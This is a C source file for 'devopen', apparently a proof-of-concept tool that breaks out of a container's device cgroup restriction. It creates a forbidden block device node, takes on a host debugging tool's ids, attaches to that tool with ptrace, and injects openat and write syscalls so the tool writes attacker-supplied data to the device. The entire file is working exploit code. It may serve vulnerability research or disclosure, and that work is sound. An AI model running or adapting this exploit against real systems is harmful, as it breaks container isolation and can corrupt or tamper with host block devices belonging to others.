#define _GNU_SOURCE
/* devopen: a hostile container's root against the device controller of its
 * own cgroup. It makes a block device node (CAP_MKNOD: Docker's default
 * set) of a device its cgroup denies, owned by the tool's ids (CAP_CHOWN),
 * tries to open it itself, then becomes the tool's ids with Docker's default
 * capability set (plus CAP_SYS_PTRACE with -p: `--cap-add SYS_PTRACE`),
 * PTRACE_ATTACHes the crashcart tool and makes the tool open the node and
 * write MSG to it. The tool's open is checked against the tool's cgroup,
 * not the container's. x86_64 only. Prints what each call returned.
 * usage: devopen [-p] UID GID TOOLPID NODE MAJOR MINOR MSG */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define CAP(c) (1ULL << (c))
/* Docker's default set (moby's oci/caps/defaults.go) */
static const unsigned long long docker_caps =
	CAP(CAP_CHOWN) | CAP(CAP_DAC_OVERRIDE) | CAP(CAP_FSETID) | CAP(CAP_FOWNER) | CAP(CAP_MKNOD) |
	CAP(CAP_NET_RAW) | CAP(CAP_SETGID) | CAP(CAP_SETUID) | CAP(CAP_SETFCAP) | CAP(CAP_SETPCAP) |
	CAP(CAP_NET_BIND_SERVICE) | CAP(CAP_SYS_CHROOT) | CAP(CAP_KILL) | CAP(CAP_AUDIT_WRITE);

static int setcaps(unsigned long long c)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct d[2] = {
		{ .effective = (unsigned)c, .permitted = (unsigned)c },
		{ .effective = (unsigned)(c >> 32), .permitted = (unsigned)(c >> 32) },
	};
	return (int)syscall(SYS_capset, &h, d);
}

static pid_t pid;
static struct user_regs_struct saved;
static unsigned long sc;

/* one system call in the tracee, at the syscall instruction it stopped at */
static long call(long nr, long a, long b, long c)
{
	struct user_regs_struct r = saved;
	int st;
	r.orig_rax = -1UL;
	r.rax = (unsigned long)nr;
	r.rdi = (unsigned long)a;
	r.rsi = (unsigned long)b;
	r.rdx = (unsigned long)c;
	r.rip = sc;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0)
		return -errno;
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
		return -EIO;
	return (long)r.rax;
}

static void poke(unsigned long at, const char *s, size_t n)
{
	for (size_t i = 0; i < n; i += sizeof(long)) {
		long w = 0;
		memcpy(&w, s + i, n - i < sizeof(long) ? n - i : sizeof(long));
		(void)ptrace(PTRACE_POKEDATA, pid, (void *)(at + i), (void *)w);
	}
}

static const char *res(long r)
{
	static char b[64];
	if (r >= 0) {
		snprintf(b, sizeof(b), "ok (%ld)", r);
		return b;
	}
	return strerror((int)-r);
}

int main(int argc, char **argv)
{
	int keep_ptrace = argc > 1 && strcmp(argv[1], "-p") == 0;
	if (argc - keep_ptrace != 8) {
		fprintf(stderr, "usage: devopen [-p] UID GID TOOLPID NODE MAJOR MINOR MSG\n");
		return 2;
	}
	argv += keep_ptrace;
	uid_t uid = (uid_t)atoi(argv[1]);
	gid_t gid = (gid_t)atoi(argv[2]);
	pid = atoi(argv[3]);
	const char *node = argv[4], *msg = argv[7];
	int st;

	(void)unlink(node);
	if (mknod(node, S_IFBLK | 0600, makedev(atoi(argv[5]), atoi(argv[6]))) < 0 || chown(node, uid, gid) < 0) {
		printf("devopen: mknod %s: %s\n", node, strerror(errno));
		return 2;
	}
	int fd = open(node, O_RDWR);
	printf("devopen: container opens %s: %s\n", node, fd >= 0 ? "ok" : strerror(errno));
	if (fd >= 0)
		close(fd);
	if (prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0) < 0 || setgroups(0, NULL) < 0 || setresgid(gid, gid, gid) < 0 ||
	    setresuid(uid, uid, uid) < 0 || setcaps(docker_caps | (keep_ptrace ? CAP(CAP_SYS_PTRACE) : 0)) < 0) {
		printf("devopen: becoming the tool's ids: %s\n", strerror(errno));
		return 2;
	}
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("devopen: attach: %s\n", strerror(errno));
		return 3;
	}
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) {
		printf("devopen: attach: no stop\n");
		return 3;
	}
	sc = saved.rip - 2; /* stopped in a syscall: `syscall` is just before rip */
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)sc, NULL);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("devopen: no syscall instruction at rip-2\n");
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 3;
	}
	unsigned long buf = (saved.rsp - 1024) & ~7UL; /* below the red zone */
	poke(buf, node, strlen(node) + 1);
	poke(buf + 512, msg, strlen(msg) + 1);
	long tfd = call(SYS_openat, AT_FDCWD, (long)buf, O_RDWR);
	printf("devopen: tool opens %s: %s\n", node, res(tfd));
	if (tfd >= 0) {
		printf("devopen: tool writes: %s\n", res(call(SYS_write, tfd, (long)(buf + 512), (long)strlen(msg))));
		(void)call(SYS_close, tfd, 0, 0);
	}
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 0;
}
